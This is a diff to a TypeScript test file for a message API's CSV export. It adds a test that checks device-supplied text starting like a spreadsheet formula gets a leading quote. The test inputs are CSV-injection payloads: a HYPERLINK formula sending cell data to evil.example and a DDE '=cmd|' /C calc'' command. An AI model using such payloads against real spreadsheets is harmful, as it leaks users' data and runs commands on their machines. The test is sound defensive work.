@@ -35,6 +35,24 @@ beforeAll(async () => {
   expect(await drain(ch)).toBe(true);
 });
 
+/** RFC 4180 rows (quoted fields may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [], cell = '', quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') row.push(cell), (cell = '');
+    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
+    else cell += ch;
+  }
+  return rows;
+}
+
 /** A would-be cursor: base64url of some JSON. */
 const b64url = (v: unknown) => btoa(JSON.stringify(v)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
 const q = (query: string, path = '') => api('GET', `/channels/${ch}/messages${path}?${query}`, { token: t });
@@ -299,29 +317,42 @@ describe('message query API', () => {
     expect(text).toContain('"ok, ""fine""\nreally"');
   });
 
-  it('answers CSV with one fixed header per kind of answer, holding every field of the JSON answer', async () => {
-    /** RFC 4180 rows (quoted fields may hold commas, quotes and line breaks). */
-    const parse = (text: string) => {
-      const rows: string[][] = [];
-      let row: string[] = [], cell = '', quoted = false;
-      for (let i = 0; i < text.length; i++) {
-        const ch = text[i]!;
-        if (quoted) {
-          if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
-          else if (ch === '"') quoted = false;
-          else cell += ch;
-        } else if (ch === '"') quoted = true;
-        else if (ch === ',') row.push(cell), (cell = '');
-        else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
-        else cell += ch;
-      }
-      return rows;
+  it('exports CSV that a spreadsheet opens as data: a device\'s text that starts like a formula is never run as one', async () => {
+    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'formulas' } })).body.id as string;
+    await api('PUT', `/orgs/${org}/channels/${other}/devices/${dev.id}`, { token: t, body: {} });
+    const link = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    await publish(other, dev.key, link, 'text/plain', 'lab');
+    await publish(other, dev.key, '-2+3', 'text/plain', '=cmd');
+    await publish(other, dev.key, JSON.stringify([{ bn: 'dev/', bt: T0, n: 'state', u: "=cmd|' /C calc'!A0", vs: '@SUM(1+1)' }, { n: 'temp', v: -3, t: 1 }, { n: 'raw', vd: '-_8', t: 2 }]), 'application/senml+json', 'lab');
+    expect(await drain(other)).toBe(true);
+    const csv = async (query: string) => {
+      const res = await worker.fetch(`http://edgeflux.test/channels/${other}/messages?order=asc&${query}`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
+      const [header, ...rows] = parseCsv(await res.text());
+      return rows.map((r) => Object.fromEntries(header!.map((k, i) => [k, r[i]])));
     };
+    const messages = await csv('');
+    // Text a device chose (payload, subtopic) that Excel or Sheets would evaluate gets a leading ' (shown, not run).
+    expect(messages.map((m) => [m.subtopic, m.payload])).toEqual([
+      ['lab', `'${link}`],
+      ["'=cmd", "'-2+3"],
+      ['lab', expect.stringContaining('"u":"=cmd')], // a JSON document starts with [: no formula
+    ]);
+    const records = await csv('format=senml');
+    expect(records.map((r) => [r.name, r.unit, r.value, r.stringValue, r.dataValue])).toEqual([
+      ['dev/state', "'=cmd|' /C calc'!A0", '', "'@SUM(1+1)", ''],
+      ['dev/temp', '', '-3', '', ''], // a number stays a number
+      ['dev/raw', '', '', '', '-_8'], // base64url, as stored
+    ]);
+    // JSON keeps every value exactly as stored.
+    expect((await api('GET', `/channels/${other}/messages?order=asc&limit=1`, { token: t })).body.items[0].payload).toBe(link);
+  });
+
+  it('answers CSV with one fixed header per kind of answer, holding every field of the JSON answer', async () => {
     const headers = new Set<string>();
     for (const query of ['', 'format=json', 'format=senml', 'subtopic=blob', 'format=senml&name=sensor/door', 'aggregation=count', 'format=senml&aggregation=avg&interval=10s', 'publisher=nobody', 'format=senml&publisher=nobody']) {
       const json = await q(query);
       const res = await worker.fetch(`http://edgeflux.test/channels/${ch}/messages?${query}`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
-      const [header, ...rows] = parse(await res.text());
+      const [header, ...rows] = parseCsv(await res.text());
       headers.add(header!.join(','));
       expect(rows, query).toHaveLength(json.body.items.length);
       json.body.items.forEach((item: Record<string, unknown>, i: number) => {
